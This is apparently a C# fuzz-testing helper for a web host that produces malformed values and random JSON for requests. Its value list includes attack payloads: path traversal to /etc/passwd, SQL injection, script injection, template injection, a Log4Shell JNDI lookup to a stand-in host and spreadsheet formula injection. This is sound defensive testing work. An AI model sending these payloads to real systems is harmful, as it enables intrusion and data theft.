using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using Kayse.WebHost.Tests.Testing;

namespace Kayse.WebHost.Tests.Fuzzing;

/// <summary>What a program that misbehaves, or somebody who looks for a weakness, sends in place of a value.</summary>
/// <param name="random">Decides; the same decisions for the same seed.</param>
/// <param name="known">Ids, addresses and tokens that exist, so that some requests get far.</param>
internal sealed class OddValues(Random random, IReadOnlyList<string> known)
{
    private static readonly string[] _texts =
    [
        "",
        " ",
        "null",
        "undefined",
        "true",
        "0",
        "-1",
        "1e309",
        "NaN",
        "current",
        "..",
        "../../etc/passwd",
        "%2e%2e%2f",
        "\0",
        "\r\n\r\n",
        "\u202Eevil",
        "\u200B",
        "\uFEFF",
        "\uFFFD",
        "😀",
        "👨‍👩‍👧‍👦",
        "ｆｕｌｌ",
        "Ünïcødé",
        "العربية",
        "' OR 1=1 --",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://evil.example}",
        "=1+1",
        "＝1+1",
        "a@b.example",
        "a@b",
        "@",
        "a@@b",
        "x@xn--",
        "x@[127.0.0.1]",
        "ada@firm.example ",
        "ADA@FIRM.EXAMPLE",
        "+442070313000",
        "+",
        "tel:+1",
        "٠١٢٣٤٥",
        "GB",
        "xx",
        "Europe/London",
        "right/UTC",
        "Nowhere/Never",
        "2027-02-30T00:00:00Z",
        "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59.9999999Z",
        "9999-12-31T23:59:59-14:00",
        "2026-01-05",
        "2026-W01",
        "12:00",
        "24:00",
        "https://firm.example",
        "javascript:alert(1)",
        "https://",
        "http://[",
        "user",
        "admin",
        "super_admin",
        "User",
        "pending",
        "members.read",
        "read",
        "write",
        "en",
        "en-GB-x-private",
        "zz-zz-zz-zz",
        "123456",
        "１２３４５６",
        Person.Password,
        "aaaaaaaaaaaaaaa",
        "06axv7m2k4p9r3t8w1y5z0gh.qLUpYHkB1fY0v0Sx3m8cR5nE7wT2aJ9dG4hK6iO1uXs",
        "000000000000000000000000",
        "zzzzzzzzzzzzzzzzzzzzzzzz",
        "kayse_x_y",
    ];

    private static readonly string[] _numbers =
    [
        "0",
        "-0",
        "-1",
        "1",
        "1.5",
        "1e3",
        "1e-3",
        "1e400",
        "2147483648",
        "-2147483649",
        "9223372036854775808",
        "0.1",
        "1E+2",
        "79228162514264337593543950336",
    ];

    public string Text() =>
        random.Next(10) switch
        {
            < 3 when known.Count > 0 => known[random.Next(known.Count)],
            3 => new string((char)random.Next(32, 0xD7FF), random.Next(1, 600)),
            4 => string.Concat(Enumerable.Range(0, random.Next(1, 30)).Select(_ => (char)random.Next(1, 0xD7FF))),
            5 => new string(
                'x',
                random.Next(4) switch
                {
                    0 => 100,
                    1 => 201,
                    2 => 2_000,
                    _ => 20_000,
                }
            ),
            _ => _texts[random.Next(_texts.Length)],
        };

    /// <summary>A piece of JSON; sometimes of the kind that is wanted, sometimes of another.</summary>
    public string Json(JsonNode? schema, int depth = 0)
    {
        if (random.Next(5) > 0 && schema is JsonObject wanted && Wanted(wanted, depth) is { } fitting)
            return fitting;
        return random.Next(9) switch
        {
            0 => "null",
            1 => random.Next(2) == 0 ? "true" : "false",
            2 => _numbers[random.Next(_numbers.Length)],
            3 => "[]",
            4 => "{}",
            5 when depth < 3 => $"[{string.Join(',', Enumerable.Range(0, random.Next(4)).Select(_ => Json(schema: null, depth + 1)))}]",
            6 when depth < 3 => $"{{{Quoted(Text())}:{Json(schema: null, depth + 1)}}}",
            7 => "\"\\ud800\"",
            _ => Quoted(Text()),
        };
    }

    private string? Wanted(JsonObject schema, int depth)
    {
        if (schema["enum"] is JsonArray { Count: > 0 } words)
            return words[random.Next(words.Count)]?.ToJsonString() ?? "null";
        var type = schema["type"] is JsonArray types ? types[0]?.GetValue<string>() : (schema["type"] as JsonValue)?.GetValue<string>();
        return type switch
        {
            "string" => Quoted(Text()),
            "integer" => random.Next(-2, 100).ToString(CultureInfo.InvariantCulture),
            "number" => _numbers[random.Next(_numbers.Length)],
            "boolean" => random.Next(2) == 0 ? "true" : "false",
            "array" when depth < 4 =>
                $"[{string.Join(',', Enumerable.Range(0, random.Next(3)).Select(_ => Json(schema["items"], depth + 1)))}]",
            "object" when depth < 4 && schema["properties"] is JsonObject members =>
                $"{{{string.Join(',', members.Where(_ => random.Next(8) > 0).Select(member => $"{Quoted(member.Key)}:{Json(member.Value, depth + 1)}"))}}}",
            _ => null,
        };
    }

    private static string Quoted(string text)
    {
        var quoted = new StringBuilder("\"");
        foreach (var character in text)
        {
            if (character is '"' or '\\' or < ' ')
                quoted.Append(CultureInfo.InvariantCulture, $"\\u{(int)character:x4}");
            else
                quoted.Append(character);
        }

        return quoted.Append('"').ToString();
    }
}
